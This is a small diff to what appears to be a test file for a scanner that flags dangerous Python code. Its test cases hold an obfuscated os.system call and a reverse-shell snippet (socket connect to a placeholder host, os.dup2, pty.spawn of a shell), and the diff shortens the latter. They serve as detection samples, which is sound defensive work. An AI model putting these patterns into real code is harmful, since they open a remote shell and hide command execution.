@@ -34,8 +34,7 @@ def found(content: bytes) -> dict[str, str]:
     [
         ("getattr(__import__('o' + 's'), 'sys' + 'tem')('echo')", "getattr(__import__(...))"),
         (
-            "import socket, os, pty\ns = socket.socket()\ns.connect(('x', 1))\n[os.dup2(3, 0)]\n"
-            + "pty.spawn('sh')",
+            "import socket, os\nsocket.socket().connect(('x', 1))\nos.dup2(3, 0); pty.spawn('sh')",
             "a shell over a connection",
         ),
     ],
